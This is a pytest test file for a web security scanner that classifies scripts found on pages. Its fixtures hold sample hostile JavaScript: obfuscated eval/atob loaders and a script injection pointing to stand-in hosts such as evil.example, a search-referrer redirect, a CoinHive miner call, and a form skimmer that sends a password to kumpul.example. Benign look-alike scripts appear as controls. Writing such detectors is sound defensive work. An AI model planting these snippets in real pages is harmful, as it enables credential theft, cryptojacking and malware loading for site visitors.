"""What scripts do, and scripts of ordinary sites that are written in the same ways."""

import base64

import pytest

from secscan.analysis.scriptsigns import Deed, acts
from tests.unit.analysis.pages import HOST, exchange_of


def deeds(markup: str) -> list[Deed]:
    page = exchange_of(f"<!doctype html><html><title>x</title>{markup}</html>").page
    assert page is not None
    return [act.deed for act in acts(page, HOST)]


def coded(text: str) -> str:
    return ",".join(str(ord(char)) for char in text)


def encoded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


LOADER = "var s=document.createElement('script');s.src='https://stat.example/x.js';document.head.appendChild(s)"


@pytest.mark.parametrize(
    ("deed", "script"),
    [
        (Deed.CONCEALED, f"eval(atob('{encoded(LOADER)}'))"),
        (Deed.CONCEALED, f"document.write(String.fromCharCode({coded('<script src=//evil.example/a></script>')}))"),
        (Deed.CONCEALED, f"s=document.createElement('script');s.src=atob('{encoded('https://evil.example/a.js')}')"),
        (Deed.CONDITIONAL, "if(/google|bing/.test(document.referrer)){location.href='https://go.example/in'}"),
        (Deed.MINER, "new CoinHive.Anonymous('k',{throttle:0.3}).start()"),
        (
            Deed.SKIMMER,
            "f.addEventListener('submit',function(){var p=document.querySelector('#password').value;"
            "new Image().src='https://kumpul.example/c?d='+btoa(p)})",
        ),
    ],
)
def test_deeds_are_told_by_what_a_script_does(deed: Deed, script: str) -> None:
    assert deeds(f"<script>{script}</script>") == [deed]


@pytest.mark.parametrize(
    "script",
    [
        "document.write(unescape(\"%3Cscript src='https://ssl.google-analytics.com/ga.js'%3E%3C/script%3E\"))",
        "eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'a|b'.split('|')))",
        f"document.write(String.fromCharCode({coded('<a href=mailto:humas@kab.go.id>humas</a>')}))",
        f"var data=JSON.parse(atob('{encoded('{nama: desa, titik: 12}')}'))",
        f"eval(atob('{encoded('https://www.google-analytics.com/ga.js document.x')}'))",
        "navigator.sendBeacon('https://www.google-analytics.com/c',encodeURIComponent(document.referrer))",
        "var r=document.referrer;if(/google/.test(r)){document.cookie='dari=google'}",
        "if(/Android/.test(navigator.userAgent)){location.href='https://play.google.com/store'}",
        "$('#password').on('keyup',function(){fetch('/cek',{body:JSON.stringify({p:1})})})",
    ],
)
def test_ordinary_scripts_do_none_of_it(script: str) -> None:
    assert deeds(f"<script>{script}</script>") == []


def test_frames_and_scripts_in_odd_places() -> None:
    assert deeds("<iframe src=https://iklan.example/ width=0 height=0></iframe>") == [Deed.HIDDEN_FRAME]
    assert deeds("<iframe src=https://peta.example/ width=560 height=300></iframe>") == []
    assert deeds("<iframe src=https://www.youtube.com/embed/x style=display:none></iframe>") == []
    assert deeds("<iframe src=https://sso.prov.go.id/cek style=display:none></iframe>") == []
    page = exchange_of(
        "<script src=https://inj.example/a.js></script><!doctype html><html><title>x</title></html>"
    ).page
    assert page is not None
    assert [act.deed for act in acts(page, HOST)] == [Deed.MISPLACED]


def test_what_is_shown_is_no_live_link() -> None:
    page = exchange_of(f"<script>eval(atob('{encoded(LOADER)}'))</script>").page
    assert page is not None
    (act,) = acts(page, HOST)
    assert "https://" not in act.example
